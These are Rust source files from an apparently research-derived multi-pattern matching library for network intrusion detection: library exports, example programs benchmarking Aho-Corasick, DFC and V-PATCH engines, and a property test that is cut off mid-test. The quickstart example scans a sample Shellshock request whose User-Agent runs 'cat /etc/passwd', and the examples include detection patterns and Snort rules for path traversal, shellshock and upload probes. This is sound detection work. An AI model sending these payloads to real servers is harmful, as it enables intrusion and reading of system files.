/// (`mpm_vpatch::build_auto_with_arena`: widest available SIMD V-PATCH, or
/// scalar S-PATCH), all sharing one deduplicated pattern arena. The result
/// plugs straight into `mpm_stream::ScannerBuilder::groups` or
/// per-flow `mpm_stream::GroupedFlowScanner`s:
///
/// ```
/// use vpatch_suite::prelude::*;
///
/// let rules = vpatch_suite::patterns::snort::parse_grouped(
///     r#"alert tcp any any -> any 80 (msg:"web"; content:"GET /admin"; sid:1;)"#,
///     Default::default(),
/// )
/// .unwrap();
/// let engines = vpatch_suite::build_grouped_engines(GroupedRuleSet::new(rules));
/// let flow = FlowTuple::new(Proto::Tcp, 40000, 80);
/// let hits = engines.scan_flow(Some(flow), b"GET /admin HTTP/1.1");
/// assert_eq!(hits.len(), 1);
/// ```
pub fn build_grouped_engines(
    grouped: mpm_patterns::GroupedRuleSet,
) -> Arc<mpm_stream::GroupedEngineSet> {
    Arc::new(mpm_stream::GroupedEngineSet::build_with(
        grouped,
        |set, arena| Arc::from(mpm_vpatch::build_auto_with_arena(set, arena)),
    ))
}

/// The most commonly used items, for glob import in applications and
/// examples.
pub mod prelude {
    pub use mpm_aho_corasick::{DfaMatcher, NfaMatcher};
    pub use mpm_dfc::{Dfc, VectorDfc};
    pub use mpm_graph::{GraphConfig, ScanGraph, ScanOp, Scratchpad, Stage};
    pub use mpm_patterns::{
        ArenaBuilder, Direction, FlowTuple, GroupKey, GroupedRuleSet, MatchEvent, Matcher,
        MatcherStats, MemoryFootprint, NaiveMatcher, Pattern, PatternArena, PatternId, PatternSet,
        PortSpec, PortVars, Proto, ProtocolGroup, Rule, RuleContent, RuleHeader, RuleId, RuleMatch,
        RuleSet, SyntheticRuleset,
    };
    pub use mpm_patterns::{LatencyHistogram, LatencySummary};
    pub use mpm_simd::{
        available_backends, detect_best, forced_backend, BackendKind, VectorBackend,
    };
    pub use mpm_stream::{
        EvictionPolicy, FlowRuleMatch, GroupedEngineSet, GroupedFlowScanner, Packet,
        PipelineScanner, PipelineStats, RuleStreamScanner, ScannerBuilder, ShardedScanner,
        SharedMatcher, StreamScanner, WorkerStats,
    };
    pub use mpm_traffic::{
        ChunkedStream, MatchDensityGenerator, TraceGenerator, TraceKind, TraceSpec,
    };
    pub use mpm_verify::{PayloadIndex, RuleConfirmer, RuleScanner};
    pub use mpm_vpatch::{build_auto, build_for, FilterOnlyMode, SPatch, Scratch, VPatch};
    pub use mpm_wu_manber::WuManber;
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    #[test]
    fn prelude_exposes_a_working_pipeline() {
        let rules = PatternSet::from_literals(&["needle", "GET "]);
        let engine = build_auto(&rules);
        let trace = TraceGenerator::generate(
            &TraceSpec::new(TraceKind::IscxDay2, 64 * 1024),
            Some(&rules),
        );
        let matches = engine.find_all(&trace);
        assert_eq!(matches, mpm_patterns::naive::naive_find_all(&rules, &trace));
    }
}
