//! Multi-stream scanning: one compiled engine shared by several worker
//! threads, each inspecting its own traffic stream — the deployment model
//! the paper assumes when it notes that "different hardware threads can
//! operate independently on different parts of the stream".
//!
//! Demonstrates: sharing a compiled engine across threads (engines are
//! `Send + Sync`), `std::thread::scope` scoped threads, and aggregating
//! per-stream statistics behind a mutex.
//!
//! ```text
//! cargo run --release --example parallel_streams
//! ```

use std::sync::Mutex;
use std::time::Instant;
use vpatch_suite::prelude::*;

/// True when the examples smoke test asks for a quickly-finishing run
/// (`VPATCH_EXAMPLE_FAST=1`); sizes below scale down accordingly.
fn fast_mode() -> bool {
    std::env::var_os("VPATCH_EXAMPLE_FAST").is_some()
}

fn main() {
    let rules = SyntheticRuleset::snort_like_s1().http();
    let engine = build_auto(&rules);
    println!("engine: {}, {} patterns", engine.name(), rules.len());

    // One independent stream per worker, as if four reassembly queues were
    // being drained in parallel.
    let streams: Vec<(TraceKind, Vec<u8>)> = [
        TraceKind::IscxDay2,
        TraceKind::IscxDay6,
        TraceKind::Darpa2000,
        TraceKind::Random,
    ]
    .into_iter()
    .map(|kind| {
        (
            kind,
            TraceGenerator::generate(
                &TraceSpec::new(
                    kind,
                    if fast_mode() {
                        256 * 1024
                    } else {
                        8 * 1024 * 1024
                    },
                ),
                Some(&rules),
            ),
        )
    })
    .collect();

    let results: Mutex<Vec<(String, u64, f64)>> = Mutex::new(Vec::new());
    let engine_ref: &(dyn Matcher + Send + Sync) = engine.as_ref();

    let start = Instant::now();
    std::thread::scope(|scope| {
        for (kind, stream) in &streams {
            let results = &results;
            scope.spawn(move || {
                let t0 = Instant::now();
                let matches = engine_ref.count(stream);
                let gbps = stream.len() as f64 * 8.0 / t0.elapsed().as_secs_f64() / 1e9;
                results
                    .lock()
                    .unwrap()
                    .push((kind.label().to_string(), matches, gbps));
            });
        }
    });
    let wall = start.elapsed();

    let mut results = results.into_inner().unwrap();
    results.sort_by(|a, b| a.0.cmp(&b.0));
    let total_bytes: usize = streams.iter().map(|(_, s)| s.len()).sum();
    println!("{:<12} {:>12} {:>12}", "stream", "matches", "Gbps");
    for (label, matches, gbps) in &results {
        println!("{:<12} {:>12} {:>12.2}", label, matches, gbps);
    }
    println!(
        "aggregate: {:.2} Gbps over {} streams ({} MiB in {:.2?})",
        total_bytes as f64 * 8.0 / wall.as_secs_f64() / 1e9,
        streams.len(),
        total_bytes / (1024 * 1024),
        wall
    );
}
