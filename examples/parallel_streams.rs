//! Multi-stream scanning: one compiled engine shared by several worker
//! threads, each inspecting its own traffic stream — the deployment model
//! the paper assumes when it notes that "different hardware threads can
//! operate independently on different parts of the stream".
//!
//! Demonstrates: sharing a compiled engine across threads (engines are
//! `Send + Sync`), crossbeam scoped threads, and aggregating per-stream
//! statistics behind a `parking_lot` mutex.
//!
//! ```text
//! cargo run --release --example parallel_streams
//! ```

use parking_lot::Mutex;
use std::time::Instant;
use vpatch_suite::prelude::*;

fn main() {
    let rules = SyntheticRuleset::snort_like_s1().http();
    let engine = build_auto(&rules);
    println!("engine: {}, {} patterns", engine.name(), rules.len());

    // One independent stream per worker, as if four reassembly queues were
    // being drained in parallel.
    let streams: Vec<(TraceKind, Vec<u8>)> = [
        TraceKind::IscxDay2,
        TraceKind::IscxDay6,
        TraceKind::Darpa2000,
        TraceKind::Random,
    ]
    .into_iter()
    .map(|kind| {
        (
            kind,
            TraceGenerator::generate(&TraceSpec::new(kind, 8 * 1024 * 1024), Some(&rules)),
        )
    })
    .collect();

    let results: Mutex<Vec<(String, u64, f64)>> = Mutex::new(Vec::new());
    let engine_ref: &(dyn Matcher + Send + Sync) = engine.as_ref();

    let start = Instant::now();
    crossbeam::scope(|scope| {
        for (kind, stream) in &streams {
            scope.spawn(|_| {
                let t0 = Instant::now();
                let matches = engine_ref.count(stream);
                let gbps = stream.len() as f64 * 8.0 / t0.elapsed().as_secs_f64() / 1e9;
                results.lock().push((kind.label().to_string(), matches, gbps));
            });
        }
    })
    .expect("worker threads must not panic");
    let wall = start.elapsed();

    let mut results = results.into_inner();
    results.sort_by(|a, b| a.0.cmp(&b.0));
    let total_bytes: usize = streams.iter().map(|(_, s)| s.len()).sum();
    println!("{:<12} {:>12} {:>12}", "stream", "matches", "Gbps");
    for (label, matches, gbps) in &results {
        println!("{:<12} {:>12} {:>12.2}", label, matches, gbps);
    }
    println!(
        "aggregate: {:.2} Gbps over {} streams ({} MiB in {:.2?})",
        total_bytes as f64 * 8.0 / wall.as_secs_f64() / 1e9,
        streams.len(),
        total_bytes / (1024 * 1024),
        wall
    );
}
