//! Why filtering beats a big automaton: replays the engines' data-structure
//! accesses through simulated Haswell-like and Xeon-Phi-like cache
//! hierarchies and prints per-level hit/miss breakdowns — the mechanism
//! behind the paper's §II-B and §V-E observations.
//!
//! ```text
//! cargo run --release --example cache_behaviour
//! ```

use vpatch_suite::cachesim::{replay_aho_corasick, replay_dfc, replay_vpatch, CacheConfig};
use vpatch_suite::prelude::*;

/// True when the examples smoke test asks for a quickly-finishing run
/// (`VPATCH_EXAMPLE_FAST=1`); sizes below scale down accordingly.
fn fast_mode() -> bool {
    std::env::var_os("VPATCH_EXAMPLE_FAST").is_some()
}

fn main() {
    let rules = if fast_mode() {
        // A reduced ruleset keeps the dense Aho-Corasick table build quick in
        // debug profile; the qualitative locality gap is unchanged.
        SyntheticRuleset::snort_like_s1()
            .http()
            .random_subset(400, 1)
    } else {
        SyntheticRuleset::snort_like_s1().http()
    };
    let trace_len = if fast_mode() {
        256 * 1024
    } else {
        2 * 1024 * 1024
    };
    let trace = TraceGenerator::generate(
        &TraceSpec::new(TraceKind::IscxDay2, trace_len),
        Some(&rules),
    );

    let ac = DfaMatcher::build(&rules);
    let dfc = Dfc::build(&rules);
    let spatch = SPatch::build(&rules);
    println!(
        "Aho-Corasick transition table: {:.1} MiB; V-PATCH filters: {:.1} KiB\n",
        ac.heap_bytes() as f64 / (1024.0 * 1024.0),
        spatch.tables().filter_bytes() as f64 / 1024.0
    );

    println!(
        "{:<18} {:<10} {:>12} {:>12} {:>14} {:>12}",
        "engine", "hierarchy", "accesses", "L1 misses", "memory trips", "miss ratio"
    );
    for config in [CacheConfig::haswell(), CacheConfig::xeon_phi()] {
        let rows = [
            ("Aho-Corasick", replay_aho_corasick(&ac, &trace, config)),
            ("DFC", replay_dfc(&dfc, &trace, config)),
            ("S-PATCH/V-PATCH", replay_vpatch(&spatch, &trace, config)),
        ];
        for (name, outcome) in rows {
            println!(
                "{:<18} {:<10} {:>12} {:>12} {:>14} {:>12.4}",
                name,
                config.name,
                outcome.report.accesses,
                outcome.report.l1_misses(),
                outcome.report.memory_accesses,
                outcome.report.l1_miss_ratio()
            );
        }
    }
    println!("\nNote how the Phi-like hierarchy (no L3) multiplies DFC's memory trips —");
    println!("exactly the effect the paper uses to explain Figure 7 — while the");
    println!("filter-first engines keep their hot data in L1/L2 on both hierarchies.");
}
