//! Quickstart: compile a small ruleset, scan a payload, print the matches.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```

use vpatch_suite::prelude::*;

fn main() {
    // 1. Define the patterns to look for (in a real deployment these come
    //    from a Snort-style ruleset; see `mpm_patterns::snort::parse_rules`).
    let rules = PatternSet::from_literals(&[
        "/etc/passwd",
        "cmd.exe",
        "<script>",
        "() { :;};", // shellshock
        "GET ",
    ]);

    // 2. Build the fastest engine this CPU supports (AVX-512 V-PATCH,
    //    AVX2 V-PATCH, or scalar S-PATCH).
    let engine = build_auto(&rules);
    println!(
        "engine: {} (SIMD backends available: {:?})",
        engine.name(),
        available_backends()
    );

    // 3. Scan a payload.
    let payload: &[u8] =
        b"GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :;}; /bin/cat /etc/passwd\r\n\r\n";
    let matches = engine.find_all(payload);

    println!(
        "{} matches in a {}-byte payload:",
        matches.len(),
        payload.len()
    );
    for m in &matches {
        let pattern = rules.get(m.pattern);
        println!("  offset {:>3}: pattern {} {}", m.start, m.pattern, pattern);
    }

    // 4. The engines all implement the same `Matcher` trait, so swapping in a
    //    baseline for comparison is a one-liner.
    let baseline = DfaMatcher::build(&rules);
    assert_eq!(baseline.find_all(payload), matches);
    println!("Aho-Corasick baseline agrees: {} matches", matches.len());
}
