//! A miniature network-intrusion-detection pipeline on the **sharded
//! streaming path**: a synthetic ruleset is matched against HTTP traffic
//! that arrives as per-flow packets, fanned out over worker threads — the
//! way a production NIDS actually deploys the paper's engines.
//!
//! Demonstrates: synthetic rulesets, protocol-group selection, trace
//! generation, `ShardedScanner` (flow-affine multi-core scanning with
//! per-flow `StreamScanner` state, so no match is lost at a packet
//! boundary), backend pinning via `MPM_FORCE_BACKEND`, and merged
//! statistics.
//!
//! ```text
//! cargo run --release --example nids_pipeline
//! MPM_FORCE_BACKEND=scalar cargo run --release --example nids_pipeline
//! ```

use std::sync::Arc;
use vpatch_suite::prelude::*;

/// True when the examples smoke test asks for a quickly-finishing run
/// (`VPATCH_EXAMPLE_FAST=1`); sizes below scale down accordingly.
fn fast_mode() -> bool {
    std::env::var_os("VPATCH_EXAMPLE_FAST").is_some()
}

/// Ethernet-MSS-sized reassembly chunks.
const PACKET_LEN: usize = 1460;
/// Concurrent flows the traffic is spread over.
const FLOWS: u64 = 32;
/// Worker threads draining the flows.
const WORKERS: usize = 4;

fn main() {
    // Build the Snort-like S1 ruleset and keep the HTTP-relevant patterns,
    // as the paper does when pairing HTTP traffic with HTTP rules.
    let ruleset = SyntheticRuleset::snort_like_s1();
    let rules = ruleset.http();
    println!(
        "ruleset: {} patterns total, {} HTTP-relevant, {} short (1-3 bytes)",
        ruleset.full().len(),
        rules.len(),
        rules.summary().short_count
    );

    // Generate ISCX-like HTTP traffic containing rule occurrences, and cut
    // it into per-flow packet streams (flow = contiguous slice of the trace).
    // Each flow is an independent byte stream: an injected occurrence that
    // happens to straddle a flow-slice boundary belongs to neither flow and
    // is correctly not reported — within a flow, packet boundaries lose
    // nothing (that is the StreamScanner carry-over invariant).
    let trace_len = if fast_mode() {
        512 * 1024
    } else {
        16 * 1024 * 1024
    };
    let trace = TraceGenerator::generate(
        &TraceSpec::new(TraceKind::IscxDay2, trace_len),
        Some(&rules),
    );
    let flow_len = trace.len().div_ceil(FLOWS as usize);
    let packets: Vec<Packet> = trace
        .chunks(flow_len)
        .enumerate()
        .flat_map(|(flow, stream)| {
            stream
                .chunks(PACKET_LEN)
                .map(move |p| Packet::new(flow as u64, p.to_vec()))
        })
        .collect();

    // Compile the engine once (AVX-512 ≻ AVX2 ≻ scalar, or whatever
    // MPM_FORCE_BACKEND pins) and share it across the workers.
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    println!(
        "engine: {} (backend: {}), max pattern {} bytes, {} workers x {} flows",
        engine.name(),
        detect_best(),
        engine.max_pattern_len(),
        WORKERS,
        FLOWS
    );

    let packet_count = packets.len();
    let mut scanner = ShardedScanner::new(engine, &rules, WORKERS);
    let start = std::time::Instant::now();
    let result = scanner.scan_batch(packets);
    let elapsed = start.elapsed();

    let gbps = (result.stats.bytes_scanned as f64 * 8.0) / elapsed.as_secs_f64() / 1e9;
    println!(
        "scanned {} MiB in {} packet(s) across {} flows: {} alerts, {:.2} Gbps aggregate",
        result.stats.bytes_scanned / (1024 * 1024),
        packet_count,
        FLOWS,
        result.matches.len(),
        gbps
    );

    // Show the first few alerts with flow context (matches arrive merged and
    // sorted by (flow, offset, pattern) — deterministic for any worker count).
    for alert in result.matches.iter().take(5) {
        let pattern = rules.get(alert.event.pattern);
        println!(
            "  alert flow {:>2} @ {:>9}: {}",
            alert.flow, alert.event.start, pattern
        );
    }
}
