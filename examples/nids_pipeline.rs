//! A miniature network-intrusion-detection pipeline on the **continuously
//! running streaming path**: a synthetic ruleset is matched against HTTP
//! traffic that arrives as per-flow packets, dispatched into per-worker
//! lock-free rings — the way a production NIDS actually deploys the
//! paper's engines.
//!
//! Demonstrates: synthetic rulesets, protocol-group selection, trace
//! generation, `ScannerBuilder` → `PipelineScanner` (flow-affine dispatch
//! with per-flow `StreamScanner` state, so no match is lost at a packet
//! boundary), per-packet latency percentiles and per-worker utilization
//! from `PipelineStats`, backend pinning via `MPM_FORCE_BACKEND`, and —
//! stage two — **multi-content rule confirmation**: Snort rules whose
//! several `content:`s are tied together by `offset`/`depth`/`distance`/
//! `within` are confirmed per flow even when the contents arrive in
//! different packets.
//!
//! ```text
//! cargo run --release --example nids_pipeline
//! MPM_FORCE_BACKEND=scalar cargo run --release --example nids_pipeline
//! ```

use std::sync::Arc;
use vpatch_suite::prelude::*;

/// True when the examples smoke test asks for a quickly-finishing run
/// (`VPATCH_EXAMPLE_FAST=1`); sizes below scale down accordingly.
fn fast_mode() -> bool {
    std::env::var_os("VPATCH_EXAMPLE_FAST").is_some()
}

/// Ethernet-MSS-sized reassembly chunks.
const PACKET_LEN: usize = 1460;
/// Concurrent flows the traffic is spread over.
const FLOWS: u64 = 32;
/// Worker threads draining the flows.
const WORKERS: usize = 4;

fn main() {
    // Build the Snort-like S1 ruleset and keep the HTTP-relevant patterns,
    // as the paper does when pairing HTTP traffic with HTTP rules.
    let ruleset = SyntheticRuleset::snort_like_s1();
    let rules = ruleset.http();
    println!(
        "ruleset: {} patterns total, {} HTTP-relevant, {} short (1-3 bytes)",
        ruleset.full().len(),
        rules.len(),
        rules.summary().short_count
    );

    // Generate ISCX-like HTTP traffic containing rule occurrences, and cut
    // it into per-flow packet streams (flow = contiguous slice of the trace).
    // Each flow is an independent byte stream: an injected occurrence that
    // happens to straddle a flow-slice boundary belongs to neither flow and
    // is correctly not reported — within a flow, packet boundaries lose
    // nothing (that is the StreamScanner carry-over invariant).
    let trace_len = if fast_mode() {
        512 * 1024
    } else {
        16 * 1024 * 1024
    };
    let trace = TraceGenerator::generate(
        &TraceSpec::new(TraceKind::IscxDay2, trace_len),
        Some(&rules),
    );
    let flow_len = trace.len().div_ceil(FLOWS as usize);
    let packets: Vec<Packet> = trace
        .chunks(flow_len)
        .enumerate()
        .flat_map(|(flow, stream)| {
            stream
                .chunks(PACKET_LEN)
                .map(move |p| Packet::new(flow as u64, p.to_vec()))
        })
        .collect();

    // Compile the engine once (AVX-512 ≻ AVX2 ≻ scalar, or whatever
    // MPM_FORCE_BACKEND pins) and share it across the workers.
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    println!(
        "engine: {} (backend: {}), max pattern {} bytes, {} workers x {} flows",
        engine.name(),
        detect_best(),
        engine.max_pattern_len(),
        WORKERS,
        FLOWS
    );

    let packet_count = packets.len();
    let mut scanner = ScannerBuilder::new()
        .engine(engine, &rules)
        .workers(WORKERS)
        .max_flows(64 * 1024)
        .build()
        .expect("valid configuration");
    let start = std::time::Instant::now();
    for packet in packets {
        scanner.dispatch(packet);
    }
    let result = scanner.drain().expect("workers alive");
    let elapsed = start.elapsed();

    let gbps = (result.stats.bytes_scanned as f64 * 8.0) / elapsed.as_secs_f64() / 1e9;
    println!(
        "scanned {} MiB in {} packet(s) across {} flows: {} alerts, {:.2} Gbps aggregate",
        result.stats.bytes_scanned / (1024 * 1024),
        packet_count,
        FLOWS,
        result.matches.len(),
        gbps
    );
    // The pipeline's latency SLO view: queueing + scan time per packet,
    // merged across workers, plus how busy each worker actually was.
    println!(
        "latency: p50 {:.1} us, p99 {:.1} us, p99.9 {:.1} us, max {:.1} us",
        result.latency.p50_ns as f64 / 1e3,
        result.latency.p99_ns as f64 / 1e3,
        result.latency.p999_ns as f64 / 1e3,
        result.latency.max_ns as f64 / 1e3,
    );
    for w in &result.workers {
        println!(
            "  worker {}: {:>6} packets, {:>4.1}% busy, ring high-water {}/{}",
            w.worker,
            w.packets,
            w.utilization() * 100.0,
            w.max_ring_occupancy,
            w.ring_capacity
        );
    }

    // Show the first few alerts with flow context (matches arrive merged and
    // sorted by (flow, offset, pattern) — deterministic for any worker count).
    for alert in result.matches.iter().take(5) {
        let pattern = rules.get(alert.event.pattern);
        println!(
            "  alert flow {:>2} @ {:>9}: {}",
            alert.flow, alert.event.start, pattern
        );
    }

    rule_confirmation_stage();
}

/// Stage two: multi-content Snort rules with positional constraints on the
/// same sharded streaming surface. The engines search only each rule's
/// *anchor* content; an anchor hit triggers confirmation of the remaining
/// contents and windows over the flow's payload.
fn rule_confirmation_stage() {
    use vpatch_suite::patterns::snort::{parse_ruleset, ParseOptions};

    let text = r#"
alert tcp any any -> any 80 (msg:"traversal"; content:"GET "; content:"/etc/passwd"; distance:0; within:40; sid:1;)
alert tcp any any -> any 80 (msg:"shellshock UA"; content:"User-Agent:"; content:"() {"; distance:0; sid:2;)
alert tcp any any -> any 80 (msg:"upload probe"; content:"POST"; offset:0; depth:4; content:"upload"; nocase; sid:3;)
"#;
    let set = parse_ruleset(text, ParseOptions::default()).expect("rules parse");
    println!(
        "\nrule confirmation: {} multi-content rules, anchors: {}",
        set.len(),
        set.iter()
            .map(|(_, r)| format!("{:?}", String::from_utf8_lossy(r.anchor().bytes())))
            .collect::<Vec<_>>()
            .join(", ")
    );

    let engine: SharedMatcher = Arc::from(build_auto(set.anchors()));
    let mut scanner = ScannerBuilder::new()
        .rules(engine, &set)
        .workers(2)
        .build()
        .expect("valid configuration");
    // Flow 1 carries a traversal whose second content arrives two packets
    // after the anchor; flow 2 carries an upload probe with a case-varied
    // secondary; flow 3 has the anchor but violates the window.
    let result = scanner
        .scan_batch(vec![
            Packet::new(1, b"GET /cgi".to_vec()),
            Packet::new(2, b"POST /form UP".to_vec()),
            Packet::new(1, b"-bin/../".to_vec()),
            Packet::new(3, b"GET /x ".to_vec()),
            Packet::new(1, b"/etc/passwd HTTP/1.1".to_vec()),
            Packet::new(2, b"LOAD=1".to_vec()),
            Packet::new(3, "y".repeat(60).into_bytes()),
            Packet::new(3, b"/etc/passwd".to_vec()),
        ])
        .expect("workers alive");
    for m in &result.rule_matches {
        let rule = set.get(m.rule);
        println!(
            "  confirmed flow {} @ {:>3}: sid {} ({} contents)",
            m.flow,
            m.end,
            rule.sid().unwrap_or(0),
            rule.contents().len()
        );
    }
    assert_eq!(
        result.rule_matches.len(),
        2,
        "flows 1 and 2 confirm; flow 3's within-window is violated"
    );
}
