//! A miniature network-intrusion-detection pipeline: a synthetic ruleset is
//! matched against a reassembled HTTP stream that arrives in chunks, the way
//! a real NIDS sees traffic.
//!
//! Demonstrates: synthetic rulesets, protocol-group selection, trace
//! generation, chunked scanning with overlap (so no match is lost at a chunk
//! boundary), and per-phase statistics.
//!
//! ```text
//! cargo run --release --example nids_pipeline
//! ```

use vpatch_suite::prelude::*;
use vpatch_suite::traffic::chunk::globalize_matches;

/// True when the examples smoke test asks for a quickly-finishing run
/// (`VPATCH_EXAMPLE_FAST=1`); sizes below scale down accordingly.
fn fast_mode() -> bool {
    std::env::var_os("VPATCH_EXAMPLE_FAST").is_some()
}

fn main() {
    // Build the Snort-like S1 ruleset and keep the HTTP-relevant patterns,
    // as the paper does when pairing HTTP traffic with HTTP rules.
    let ruleset = SyntheticRuleset::snort_like_s1();
    let rules = ruleset.http();
    println!(
        "ruleset: {} patterns total, {} HTTP-relevant, {} short (1-3 bytes)",
        ruleset.full().len(),
        rules.len(),
        rules.summary().short_count
    );

    // Generate ISCX-like HTTP traffic containing rule occurrences.
    let trace_len = if fast_mode() {
        512 * 1024
    } else {
        16 * 1024 * 1024
    };
    let trace = TraceGenerator::generate(
        &TraceSpec::new(TraceKind::IscxDay2, trace_len),
        Some(&rules),
    );

    // Compile the engine once; reuse a Scratch across chunks (zero
    // steady-state allocation).
    let engine = SPatch::build(&rules);
    let max_len = rules.patterns().iter().map(|p| p.len()).max().unwrap();
    let stream = ChunkedStream::new(trace, 64 * 1024, max_len - 1);

    let mut scratch = Scratch::with_capacity_for(64 * 1024);
    let mut alerts = Vec::new();
    let start = std::time::Instant::now();
    for chunk in stream.iter() {
        let mut local = Vec::new();
        // scan_with_scratch accumulates the phase counters across chunks,
        // so the whole-stream time split is read off the scratch at the end.
        engine.scan_with_scratch(&chunk.bytes, &mut scratch, &mut local);
        alerts.extend(globalize_matches(&chunk, &rules, &local));
    }
    let elapsed = start.elapsed();
    let (filter_nanos, verify_nanos) = (scratch.filter_nanos, scratch.verify_nanos);
    vpatch_suite::patterns::matcher::normalize_matches(&mut alerts);

    let gbps = (stream.len() as f64 * 8.0) / elapsed.as_secs_f64() / 1e9;
    println!(
        "scanned {} MiB in {} chunks: {} alerts, {:.2} Gbps",
        stream.len() / (1024 * 1024),
        stream.chunk_count(),
        alerts.len(),
        gbps
    );
    println!(
        "time split: {:.0}% filtering round, {:.0}% verification round",
        100.0 * filter_nanos as f64 / (filter_nanos + verify_nanos) as f64,
        100.0 * verify_nanos as f64 / (filter_nanos + verify_nanos) as f64,
    );

    // Show the first few alerts with a little payload context.
    for alert in alerts.iter().take(5) {
        let pattern = rules.get(alert.pattern);
        println!("  alert @ {:>9}: {}", alert.start, pattern);
    }
}
