//! How engine choice depends on ruleset size: compares the memory footprint
//! and single-thread throughput of Aho-Corasick, DFC and V-PATCH as the
//! number of patterns grows (a condensed, example-sized version of the
//! paper's Figure 5a analysis).
//!
//! ```text
//! cargo run --release --example ruleset_scaling
//! ```

use std::time::Instant;
use vpatch_suite::prelude::*;

/// True when the examples smoke test asks for a quickly-finishing run
/// (`VPATCH_EXAMPLE_FAST=1`); sizes below scale down accordingly.
fn fast_mode() -> bool {
    std::env::var_os("VPATCH_EXAMPLE_FAST").is_some()
}

fn gbps(bytes: usize, secs: f64) -> f64 {
    bytes as f64 * 8.0 / secs / 1e9
}

fn main() {
    let full = SyntheticRuleset::et_open_like_s2();
    let trace_len = if fast_mode() {
        256 * 1024
    } else {
        8 * 1024 * 1024
    };

    println!(
        "{:>9} {:>16} {:>14} {:>12} {:>12} {:>12}",
        "patterns", "AC table (MiB)", "V-PATCH (KiB)", "AC Gbps", "DFC Gbps", "V-PATCH Gbps"
    );
    let sweep: &[usize] = if fast_mode() {
        &[100, 300]
    } else {
        &[500, 2_000, 8_000]
    };
    for &n in sweep {
        let rules = full.full().random_subset(n, 42);
        let trace = TraceGenerator::generate(
            &TraceSpec::new(TraceKind::IscxDay2, trace_len),
            Some(&rules),
        );

        let ac = DfaMatcher::build(&rules);
        let dfc = Dfc::build(&rules);
        let vpatch = build_auto(&rules);

        let throughput = |engine: &dyn Matcher| {
            let start = Instant::now();
            let matches = engine.count(&trace);
            let t = gbps(trace.len(), start.elapsed().as_secs_f64());
            (t, matches)
        };
        let (ac_gbps, ac_matches) = throughput(&ac);
        let (dfc_gbps, dfc_matches) = throughput(&dfc);
        let (vp_gbps, vp_matches) = throughput(vpatch.as_ref());
        assert_eq!(ac_matches, dfc_matches);
        assert_eq!(ac_matches, vp_matches);

        println!(
            "{:>9} {:>16.1} {:>14.1} {:>12.2} {:>12.2} {:>12.2}",
            n,
            ac.heap_bytes() as f64 / (1024.0 * 1024.0),
            vpatch.heap_bytes() as f64 / 1024.0,
            ac_gbps,
            dfc_gbps,
            vp_gbps
        );
    }
    println!("\n(The filter structures of V-PATCH stay cache-sized regardless of the ruleset,");
    println!(" while the Aho-Corasick transition table grows into the tens of megabytes —");
    println!(" the locality gap the paper's design exploits.)");
}
