//! The streaming invariant, property-tested: for random patterns, random
//! haystacks and random chunkings — including 1-byte chunks and chunk cuts
//! inside every pattern — [`StreamScanner`] over the chunks reports a
//! byte-identical match set to a one-shot scan, for S-PATCH, V-PATCH and
//! DFC on every available backend.

use mpm_dfc::{Dfc, VectorDfc};
use mpm_patterns::matcher::normalize_matches;
use mpm_patterns::naive::naive_find_all;
use mpm_patterns::{MatchEvent, Pattern, PatternSet};
use mpm_simd::{Avx2Backend, Avx512Backend, BackendKind, ScalarBackend};
use mpm_stream::{SharedMatcher, StreamScanner};
use mpm_vpatch::{SPatch, VPatch};
use proptest::prelude::*;
use std::sync::Arc;

fn bytes_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    // Small alphabet plus arbitrary bytes: collisions (and therefore real
    // matches and boundary straddles) happen often.
    proptest::collection::vec(
        prop_oneof![
            Just(b'a'),
            Just(b'b'),
            Just(b'c'),
            Just(b'G'),
            Just(b'E'),
            Just(b'T'),
            any::<u8>()
        ],
        1..max_len,
    )
}

fn pattern_set_strategy() -> impl Strategy<Value = PatternSet> {
    proptest::collection::vec(bytes_strategy(10), 1..12)
        .prop_map(|ps| PatternSet::new(ps.into_iter().map(Pattern::literal).collect()))
}

/// A chunking plan: chunk sizes are taken from this list round-robin, so a
/// plan of `[1]` is pure 1-byte streaming and mixed plans cut at arbitrary
/// offsets (including inside patterns).
fn chunk_plan_strategy() -> impl Strategy<Value = Vec<usize>> {
    proptest::collection::vec(1usize..24, 1..16)
}

/// Every engine the issue's invariant covers: S-PATCH, V-PATCH and
/// (Vector-)DFC, at both scalar widths and on every backend this run can
/// dispatch to (`MPM_FORCE_BACKEND` narrows the list, pinning the suite).
fn engines(set: &PatternSet) -> Vec<SharedMatcher> {
    let mut engines: Vec<SharedMatcher> = vec![
        Arc::from(SPatch::build(set)),
        Arc::from(Dfc::build(set)),
        Arc::from(VPatch::<ScalarBackend, 8>::build(set)),
        Arc::from(VPatch::<ScalarBackend, 16>::build(set)),
        Arc::from(VectorDfc::<ScalarBackend, 8>::build(set)),
    ];
    for kind in mpm_simd::available_backends() {
        match kind {
            BackendKind::Scalar => {}
            BackendKind::Avx2 => {
                engines.push(Arc::from(VPatch::<Avx2Backend, 8>::build(set)));
                engines.push(Arc::from(VectorDfc::<Avx2Backend, 8>::build(set)));
            }
            BackendKind::Avx512 => {
                engines.push(Arc::from(VPatch::<Avx512Backend, 16>::build(set)));
                engines.push(Arc::from(VectorDfc::<Avx512Backend, 16>::build(set)));
            }
        }
    }
    engines
}

/// Streams `hay` through `scanner` following the chunking plan and returns
/// the normalized match set.
fn streamed_matches(
    engine: SharedMatcher,
    set: &PatternSet,
    hay: &[u8],
    plan: &[usize],
) -> Vec<MatchEvent> {
    let mut scanner = StreamScanner::new(engine, set);
    let mut got = Vec::new();
    let mut pos = 0;
    let mut step = 0;
    while pos < hay.len() {
        let take = plan[step % plan.len()].min(hay.len() - pos);
        scanner.push(&hay[pos..pos + take], &mut got);
        pos += take;
        step += 1;
    }
    assert_eq!(scanner.position(), hay.len());
    normalize_matches(&mut got);
    got
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(40))]

    #[test]
    fn streamed_equals_one_shot_for_random_chunkings(
        set in pattern_set_strategy(),
        hay in bytes_strategy(400),
        plan in chunk_plan_strategy(),
    ) {
        let expected = naive_find_all(&set, &hay);
        for engine in engines(&set) {
            let name = engine.name();
            let got = streamed_matches(engine, &set, &hay, &plan);
            prop_assert_eq!(
                &got, &expected,
                "{} diverged from one-shot scan under plan {:?}",
                name, &plan
            );
        }
    }

    #[test]
    fn one_byte_chunks_equal_one_shot(
        set in pattern_set_strategy(),
